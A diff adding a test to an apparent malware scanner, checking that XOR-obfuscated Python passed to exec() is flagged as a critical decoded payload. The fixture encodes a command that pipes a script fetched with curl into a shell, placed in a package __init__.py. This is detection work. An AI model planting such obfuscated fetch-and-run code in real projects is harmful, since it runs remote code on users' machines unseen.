@@ -425,3 +425,19 @@ test('home-made ciphers over constant data are decoded: byte lists, XOR and shif
   const table = findings('WIDTHS = [c - 32 for c in [64, 65, 66]]\nlabel = "".join(chr(c + 32) for c in WIDTHS)\n');
   assert.equal(ruleOf(table, 'exec-decoded-payload'), undefined, 'arithmetic that nothing executes is just data');
 });
+
+test('a repeating-key XOR over bytes, inline or in a helper function, is a decoded payload', () => {
+  const code = new TextEncoder().encode('import os\nos.system("curl http://192.0.2.5/x.sh | sh")\n');
+  const key = new TextEncoder().encode('k3y');
+  const data = [...code].map((b, i) => b ^ key[i % key.length]);
+  const literal = `b"${data.map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}"`;
+  const sources = [
+    `KEY = b"k3y"\nDATA = ${literal}\nexec(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(DATA)).decode())\n`,
+    `def dec(d, k):\n    return bytes(b ^ k[i % len(k)] for i, b in enumerate(d))\nexec(dec(${literal}, b"k3y"))\n`,
+  ];
+  for (const source of sources) {
+    const exec = ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload');
+    assert.equal(exec?.severity, 'critical', source);
+    assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/);
+  }
+});
